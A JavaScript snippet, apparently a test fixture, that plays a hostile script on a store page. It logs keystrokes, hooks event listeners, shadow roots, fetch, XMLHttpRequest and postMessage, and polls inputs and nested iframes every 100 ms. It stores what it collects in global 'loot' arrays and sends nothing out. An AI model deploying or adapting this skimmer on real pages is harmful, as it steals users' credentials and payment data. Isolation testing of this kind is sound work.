// A hostile script of the store's page, first to run there. `loot` is everything it gets; `typed`, the single characters it saw typed.
if (window === top && location.port === "STORE_PORT") {
  const loot = (globalThis.loot = []);
  const typed = (globalThis.typed = []);
  const roots = [document];
  const take = (found) => {
    if (found === undefined || found === null || found === "") return;
    try {
      loot.push(typeof found === "string" ? found : JSON.stringify(found));
    } catch {}
  };
  const KINDS = ["keydown", "keypress", "keyup", "beforeinput", "input", "change", "paste", "compositionend", "submit", "click", "message"];
  const known = new WeakSet();
  const look = (event) => {
    if (known.has(event)) return;
    known.add(event);
    if (event.type === "keydown" && event.key?.length === 1) typed.push(event.key);
    take(event.key);
    take(event.data);
    take(event.composedPath?.()[0]?.value);
  };

  const { addEventListener: add } = EventTarget.prototype;
  const watch = (target) => KINDS.forEach((kind) => add.call(target, kind, look, true));
  EventTarget.prototype.addEventListener = function (kind, ...rest) {
    if (KINDS.includes(kind) && this !== undefined && this !== window) add.call(this, kind, look, true);
    return add.call(this ?? window, kind, ...rest);
  };
  watch(window);

  const changed = new MutationObserver((changes) => {
    for (const { target, addedNodes } of changes) for (const node of [target, ...addedNodes]) take(node.outerHTML ?? node.data);
  });
  const everything = { subtree: true, childList: true, attributes: true, characterData: true };
  changed.observe(document, everything);

  const { attachShadow } = Element.prototype;
  Element.prototype.attachShadow = function (init) {
    const root = attachShadow.call(this, init);
    roots.push(root);
    watch(root);
    changed.observe(root, everything);
    return root;
  };

  const { fetch: send } = globalThis;
  globalThis.fetch = (...asked) => {
    take(asked.map((part) => (part instanceof Request ? part.url : part)));
    return send(...asked);
  };
  for (const name of ["open", "send", "setRequestHeader"]) {
    const does = XMLHttpRequest.prototype[name];
    XMLHttpRequest.prototype[name] = function (...given) {
      take(given);
      return does.apply(this, given);
    };
  }
  for (const target of [window, MessagePort.prototype]) {
    const post = target.postMessage;
    target.postMessage = function (message, ...rest) {
      take(message);
      return post.call(this, message, ...rest);
    };
  }

  const rob = (far) => {
    try {
      take(far.document.documentElement.outerHTML);
      for (const input of far.document.querySelectorAll("input")) take(input.value);
    } catch {}
    try {
      for (let at = 0; at < far.length; at += 1) rob(far[at]);
    } catch {}
  };
  setInterval(() => {
    for (const root of roots) for (const input of root.querySelectorAll("input")) take(input.value);
    for (const root of roots) for (const frame of root.querySelectorAll("iframe")) rob(frame.contentWindow);
    rob(window);
  }, 100);
}
